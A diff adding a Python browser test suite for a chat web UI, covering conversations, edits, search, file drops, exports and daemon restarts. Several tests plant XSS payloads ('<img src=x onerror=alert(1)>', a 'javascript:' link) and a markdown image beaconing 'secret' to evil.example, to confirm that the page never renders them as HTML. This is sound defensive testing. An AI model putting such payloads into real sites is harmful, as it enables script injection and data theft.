@@ -1,0 +1,214 @@
+"""The page in a real Chromium, before a real `serve` and a daemon with the dummy backend."""
+
+from __future__ import annotations
+
+import json
+from typing import Any
+
+from tests.http.served import Served
+from tests.http.tab import DONE, Tab
+from threadrunner.cli import transcript
+
+SLOW = "word " * 40_000
+EVIL = "<img src=x onerror=alert(1)>"
+
+
+def last_turn(served: Served, session: str) -> Any:
+    return served.daemon.wire().call("sessions.show", session=session, last=1)["turns"][0]
+
+
+def imported(served: Served, name: str, *turns: tuple[str, str]) -> str:
+    """The address of a conversation that took place elsewhere."""
+    made = [{"prompt": prompt, "answer": answer} for prompt, answer in turns]
+    served.daemon.wire().call("sessions.import", name=name, turns=made)
+    return f"#/{name}"
+
+
+def test_the_main_way(tab: Tab, served: Served) -> None:
+    tab.open()
+    tab.browser.type("tell me of boats")
+    tab.browser.press("Enter")
+    tab.wait(DONE, "an answer")
+    assert tab.text(".turn .said") == "tell me of boats"
+    said = tab.text(".turn .text")
+    assert said == "lorem ipsum dolor sit amet tell. me. of. boats."
+    assert tab.js("location.hash") == "#/tell-me-of-boats"
+    assert tab.text("#items li.current") == "Tell me of boats"
+    assert "9 tokens" in tab.text(".facts")
+    tab.browser.call("Page.reload")
+    tab.wait(DONE, "the same conversation")
+    assert tab.text(".turn .text") == said
+    tab.browser.press("Escape")  # stops nothing where nothing is under way
+    tab.js("document.querySelector('.answer').classList.add('first-answer')")
+    tab.browser.press("Alt+R")
+    tab.wait(f"{DONE} && !document.querySelector('.first-answer')", "another answer")
+    assert last_turn(served, "tell-me-of-boats")["number"] == 1
+    tab.faultless()
+
+
+def test_an_answer_outlives_a_reload_and_is_stopped(tab: Tab, served: Served) -> None:
+    tab.open()
+    tab.ask(SLOW)
+    tab.wait("document.querySelector('.live .text')?.innerText.length > 100", "a part of the answer")
+    name = tab.js("decodeURIComponent(location.hash.slice(2))")
+    tab.browser.call("Page.reload")
+    tab.wait("document.querySelector('.live .text')?.innerText.length > 100", "the answer, going on")
+    assert tab.js("document.querySelector('#items li.running') !== null")
+    tab.browser.press("Escape")
+    tab.wait(f"{DONE} && document.querySelector('.turn:last-child .note')", "its end")
+    assert "Stopped" in tab.text(".turn:last-child .note")
+    turn = last_turn(served, name)
+    assert turn["state"] == "stopped" and turn["answer"].startswith(tab.text(".turn:last-child .text")[:100])
+    assert tab.js("document.querySelector('.send').title") == "Send"
+    tab.faultless()
+
+
+def test_a_turn_is_edited_forked_and_its_later_ones_go(tab: Tab, served: Served) -> None:
+    tab.open(imported(served, "edits", ("one", "1"), ("two", "2"), ("three", "3")))
+    tab.wait(DONE, "the conversation")
+    tab.click(".turn[data-number='2'] [aria-label='Edit']")
+    tab.wait("document.activeElement.value === 'two'", "the box")
+    assert "The turn after it will go" in tab.text(".edit .hint")
+    tab.browser.call("Input.insertText", text=" changed")
+    tab.browser.press("Enter")
+    tab.wait(f"document.querySelectorAll('.turn').length === 2 && {DONE}", "the changed turn")
+    kept = served.daemon.wire().call("sessions.show", session="edits")["turns"]
+    assert [turn["prompt"] for turn in kept] == ["one", "two changed"]
+    tab.click(".turn[data-number='1'] [aria-label='Continue from here in a copy']")
+    tab.wait("location.hash === '#/edits-2' && document.querySelectorAll('.turn').length === 1", "the copy")
+    tab.faultless()
+
+
+def test_search_finds_turns_and_goes_there(tab: Tab, served: Served) -> None:
+    imported(
+        served, "harbour", *[(f"question {i}", f"answer {i}") for i in range(60)], ("where", "at the zanzibar quay")
+    )
+    tab.open()
+    tab.browser.press("Control+K")
+    tab.browser.type("zanzi")
+    tab.wait("document.querySelector('.hit mark')?.textContent === 'zanzibar'", "the hit")
+    tab.browser.press("Enter")
+    tab.wait("document.querySelector('.turn.found[data-number=\"61\"]')", "the turn")
+    tab.open("#/harbour")
+    tab.wait(DONE, "the conversation")
+    assert tab.js("document.querySelectorAll('.turn').length") == 40
+    tab.click(".earlier")
+    tab.wait("document.querySelectorAll('.turn').length === 61", "the earlier turns")
+    tab.faultless()
+
+
+def test_a_conversation_is_renamed_deleted_and_brought_back(tab: Tab, served: Served) -> None:
+    tab.open(imported(served, "old-name", ("a", "b")))
+    tab.wait(DONE, "the conversation")
+    tab.click("#head .title")
+    tab.wait("document.querySelector('dialog input')", "the dialog")
+    tab.browser.call("Input.insertText", text="A new name")
+    tab.browser.press("Enter")
+    tab.wait("document.title.startsWith('A new name')", "the new name")
+    tab.click("#head [aria-label^='More about']")
+    tab.click(".menu .danger")
+    tab.wait("![...document.querySelectorAll('#items a')].some((a) => a.title === 'A new name')", "it to be gone")
+    tab.click(".toast button")
+    tab.wait(f"document.title.startsWith('A new name') && {DONE}", "it to be back")
+    tab.click("#head [aria-label^='More about']")
+    tab.click(".menu .danger")
+    tab.open()  # leaving the page ends the time to think again
+    tab.wait("![...document.querySelectorAll('#items a')].some((a) => a.title === 'A new name')", "it to be gone")
+    served.daemon.wire().fail("sessions.show", session="A new name")
+    tab.faultless()
+
+
+def test_files_are_sent_as_text_under_their_names(tab: Tab, served: Served) -> None:
+    tab.open()
+    files = json.dumps([[f"{EVIL}.txt", "line one\n```\n"], ["big.txt", "x" * ((1 << 20) + 1)], ["no.bin", "\x00"]])
+    tab.js(f"""(async () => {{
+      const data = new DataTransfer();
+      for (const [name, text] of {files}) data.items.add(new File([text], name));
+      dispatchEvent(new DragEvent('drop', {{ dataTransfer: data, cancelable: true }}));
+    }})()""")
+    tab.wait("document.querySelectorAll('.toast').length === 2", "what is wrong with two of them")
+    assert "a file may have 1" in tab.text("#toasts") and "no text" in tab.text("#toasts")
+    assert tab.text(".chip b") == f"{EVIL}.txt"
+    tab.ask("see the file")
+    tab.wait(DONE, "an answer")
+    turn = last_turn(served, "@last")
+    assert turn["prompt"] == f"see the file\n\nFile {EVIL}.txt:\n````\nline one\n```\n````"
+    assert tab.text(".turn .said") == "see the file" and tab.text(".turn .fold b") == f"{EVIL}.txt"
+    tab.faultless()
+
+
+def test_what_models_files_and_names_say_is_never_html(tab: Tab, served: Served) -> None:
+    links = "[x](javascript:alert(1)) ![y](http://evil.example/?q=secret)"
+    answer = f"{EVIL}\n\n```{EVIL}\n{EVIL}\n```\n\n{links}\n\n| {EVIL} |\n|---|\n| {EVIL} |"
+    served.daemon.wire().call(
+        "sessions.import", name=EVIL, system=EVIL, model=EVIL, turns=[
+            {"prompt": EVIL, "answer": answer, "reasoning": EVIL, "model": EVIL, "tool_calls": [
+                {"id": "c1", "function": {"name": "x", "arguments": json.dumps({"a": EVIL})}}]},
+            {"prompt": EVIL, "answer": EVIL, "tool_results": [{"tool_call_id": "c1", "content": EVIL}]}],
+    )  # fmt: skip
+    tab.open("#/" + "".join(f"%{byte:02x}" for byte in EVIL.encode()))
+    tab.wait(f"document.querySelectorAll('.turn').length === 2 && {DONE}", "the conversation")
+    tab.browser.press("Control+K")
+    tab.browser.type("onerror")
+    tab.wait("document.querySelector('.hit')", "a hit")
+    assert tab.js("document.querySelectorAll('#talk img, #talk script, #items img, iframe, object, embed').length") == 0
+    assert tab.text(".turn .text p") == EVIL and tab.text(".turn .text th") == EVIL
+    assert tab.js("[...document.querySelectorAll('.text a')].map((a) => [a.protocol, a.rel, a.target])") == [
+        ["http:", "noopener noreferrer nofollow", "_blank"]
+    ]
+    tab.faultless()
+
+
+def test_a_second_tab_follows_the_first(tab: Tab, served: Served) -> None:
+    tab.open(imported(served, "shared", ("a", "b")))
+    tab.wait(DONE, "the conversation")
+    answer = served.post("/ui/api/turn", {"prompt": "from another tab", "session": "shared"}, **{"X-Tab": "other"})
+    assert answer.status == 200
+    tab.wait(f"document.querySelectorAll('.turn').length === 2 && {DONE}", "the other tab's turn")
+    assert "from another tab" in tab.text(".turn:last-child .said")
+    served.post("/ui/api/sessions.delete", {"session": "shared"})
+    tab.wait("document.querySelector('.hello')", "the page without it")
+    tab.faultless()
+
+
+def test_exports_are_what_the_shell_reads_and_writes(tab: Tab) -> None:
+    session = {
+        "name": "trip",
+        "model": "m",
+        "system": 'be "brief"',
+        "params": {"temperature": 0.5},
+        "mode": None,
+        "tools": [],
+    }
+    call = {"id": "c 1", "type": "function", "function": {"name": "f", "arguments": "{}"}}
+    turns: list[Any] = [
+        {"prompt": "a", "answer": "x\n## User\n\\## User", "model": "m"},
+        {"prompt": "b", "answer": "", "tool_calls": [call], "reasoning": "hm"},
+        {"prompt": "", "answer": None, "tool_results": [{"tool_call_id": "c 1", "content": "sunny"}]},
+    ]
+    given = json.dumps([session, turns])
+    version = tab.js("document.querySelector('script').src.split('/')[4]")
+    module = f"import('/page/{version}/transcript.js')"
+    as_markdown = tab.js(f"{module}.then((m) => m.toMarkdown(...{given}))")
+    assert transcript.read(as_markdown, "x") == transcript.read(transcript.to_markdown(session, turns), "x")
+    assert as_markdown.partition("\n## ")[2] == transcript.to_markdown(session, turns).partition("\n## ")[2]
+    as_json = tab.js(f"{module}.then((m) => m.toJson(...{given}))")
+    assert transcript.read(as_json, "x") == transcript.read(transcript.to_json(session, turns), "x")
+    back = tab.js(f"{module}.then((m) => m.fromJson({json.dumps(as_json)}, 'x'))")
+    assert [turn["prompt"] for turn in back["turns"]] == ["a", "b", ""] and back["name"] == "trip"
+
+
+def test_a_daemon_that_ends_and_a_serve_that_is_gone_are_said(tab: Tab, served: Served) -> None:
+    tab.open(imported(served, "restarted", ("a", "b")))
+    tab.wait(DONE, "the conversation")
+    served.daemon.wire().call("shutdown")
+    tab.wait("document.querySelector('.daemon.gone')", "the notice")
+    tab.ask("and now")
+    tab.wait(f"document.querySelectorAll('.turn').length === 2 && {DONE}", "an answer of the next daemon")
+    tab.wait("!document.querySelector('.daemon.gone')", "the notice to go")
+    assert tab.text(".turn:last-child .text").startswith("lorem")
+    tab.faultless()
+    wire = served.daemon.wire()  # this one is no child of the test's, and must not outlive it
+    wire.call("shutdown")
+    while wire.read() is not None:
+        pass
